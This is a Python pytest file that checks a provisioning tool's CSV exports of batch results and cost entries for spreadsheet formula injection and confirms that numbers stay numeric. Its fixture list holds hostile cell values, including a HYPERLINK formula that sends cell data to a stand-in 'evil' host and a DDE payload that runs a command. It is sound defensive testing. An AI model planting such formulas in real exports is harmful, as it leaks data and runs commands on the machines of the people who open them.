"""A family or an agent names things so that a spreadsheet takes a cell of results.csv for a formula.

Text that begins like a formula gets an apostrophe in front; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from provisioner.batch.results import Row, as_csv
from provisioner.cli.cost_commands import _csv
from provisioner.costs.ledger import Entry
from tests.attacks.entries import entry

FORMULAS = {
    "equals": '=HYPERLINK("http://evil/"&A1,"ok")',
    "plus": "+1+cmd|'/C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line": "\n=1+1",
    "spaces": "  =1+1",
    "wide": "\uff1d1+1",
}


def cells(text: str) -> list[str]:
    return [cell for row in csv.DictReader(io.StringIO(text, newline="")) for cell in row.values()]


def row(**changes: Any) -> Row:
    fields = {"key": "fam/main/one/1", "family": "fam", "task": "main", "agent": "one", "repetition": 1}
    return Row.model_validate({**fields, "outcome": "scored", **changes})


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS)
def test_no_cell_of_a_batch_is_a_formula(formula: str) -> None:
    text = as_csv([row(task=formula, message=formula, agent=formula, environment=formula, retried=(formula,))])
    for cell in cells(text):
        assert cell[:1] not in ("=", "+", "@", "-", "\t", "\r", "\n", " ", "\uff1d"), cell
    assert any(formula.strip() in cell for cell in cells(text))


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS)
def test_no_cell_of_the_costs_is_a_formula(formula: str) -> None:
    for cell in cells(_csv(Entry, [entry(family=formula, task=formula, project=formula)])):
        assert cell[:1] not in ("=", "+", "@", "-", "\t", "\r", "\n", " ", "\uff1d"), cell


def test_numbers_stay_numbers() -> None:
    [line] = csv.DictReader(io.StringIO(as_csv([row(score=-1.5, agent_exit_code=-1, task="-x")])))
    assert (line["score"], line["agent_exit_code"], line["task"]) == ("-1.5", "-1", "'-x")
